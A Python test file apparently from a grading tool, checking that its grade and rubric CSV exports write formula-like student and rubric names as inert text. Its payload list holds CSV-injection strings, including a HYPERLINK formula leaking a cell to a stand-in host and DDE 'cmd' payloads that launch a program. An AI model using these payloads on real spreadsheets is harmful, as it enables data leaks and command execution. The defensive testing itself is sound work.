"""CSV injection: names and titles that a spreadsheet would run as formulas are written as text, in every CSV we write.

Written as the attack: students and rubrics named like formulas, and a name holding a bare carriage return, go
through each grade file (Canvas, Moodle, D2L), the Canvas rubric CSV and `forumgrader grade --csv`; each file is
read back as a spreadsheet would, and no text cell may start a formula, no row may split, and points stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.cli import ScriptInfo
from sqlalchemy import select
from sqlalchemy.orm import Session

from forumgrader.cli import cli
from forumgrader.grading.canvas_rubric import rubric_to_canvas_csv
from forumgrader.grading.exports import EXPORTS, ExportOptions, GradeRow, MatchBy
from forumgrader.grading.rubricfile import parse_rubric
from forumgrader.store.models import Topic

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _table(text: str) -> list[list[str]]:
    """Read a CSV as a spreadsheet does: a carriage return outside quotes ends a row."""
    return list(csv.reader(io.StringIO(text, newline="")))


def _unsafe(table: list[list[str]], numbers: set[str]) -> list[str]:
    """Return the text cells a spreadsheet would run as a formula (cells that are the given numbers aside)."""
    return [
        cell for row in table for cell in row if cell not in numbers and cell.lstrip(" ").startswith(FORMULA_STARTS)
    ]


def _row(name: str, points: float | None = 7.5) -> GradeRow:
    return GradeRow(name, name, "11", name, name, name + "@example.edu", name, points, name)


@pytest.mark.parametrize("lms", sorted(EXPORTS))
def test_grade_files_write_formula_names_as_text_and_negative_points_as_numbers(lms: str) -> None:
    rows = [_row(payload) for payload in PAYLOADS] + [_row("Ana\rRivera"), _row("Ben Ode", -2.5)]
    match_by = MatchBy.IDNUMBER if lms == "moodle" else MatchBy.EMAIL
    options = ExportOptions(item="=Week 3", points_possible=10, assignment_id="48213", match_by=match_by)
    table = _table(EXPORTS[lms](rows, options))
    assert len(table) == len(rows) + (2 if lms == "canvas" else 1)  # one row per student: none was split
    assert _unsafe(table, numbers={"-2.50"}) == []
    assert any("-2.50" in row for row in table)  # a negative grade is still a number
    written = {cell.removeprefix("'") for row in table for cell in row}
    assert set(PAYLOADS[:4]) <= written  # the text itself is kept, behind the quote


def test_the_canvas_rubric_csv_writes_formula_names_as_text() -> None:
    criteria = "\n".join(
        f'[[criteria]]\nid = "c{n}"\nname = {payload!r}\ndescription = {payload!r}\napplies_to = "participation"\n'
        f'manual = true\nlevels = [{{ name = {payload!r}, points = 5 }}, {{ name = "None", points = 0 }}]\n'
        for n, payload in enumerate(PAYLOADS)
    )
    rubric = parse_rubric(f'name = "r"\ntitle = "=Rubric"\n{criteria}')
    table = _table(rubric_to_canvas_csv(rubric))
    assert len(table) == len(PAYLOADS) + 1
    assert _unsafe(table, numbers=set()) == []


def test_grade_csv_on_the_command_line_writes_formula_names_as_text(
    app: Flask, samples: Path, session: Session, tmp_path: Path
) -> None:
    posts = list(csv.DictReader(io.StringIO((samples / "moodle/discussion.csv").read_text(encoding="utf-8"))))
    with (tmp_path / "forum.csv").open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(posts[0]))
        writer.writeheader()
        for post in posts:
            writer.writerow({**post, "userfullname": post["userfullname"].replace("Hannah", PAYLOADS[0])})

    def run(*args: Any) -> str:
        result = CliRunner().invoke(cli, [str(a) for a in args], obj=ScriptInfo(create_app=lambda: app))
        assert result.exit_code == 0, result.output
        return result.stdout

    run("import", tmp_path / "forum.csv")
    table = _table(run("grade", session.scalars(select(Topic.id)).one(), "--csv"))
    assert any(row[0] == "'" + PAYLOADS[0] + " Whitfield" for row in table)
    assert _unsafe(table, numbers=set()) == []
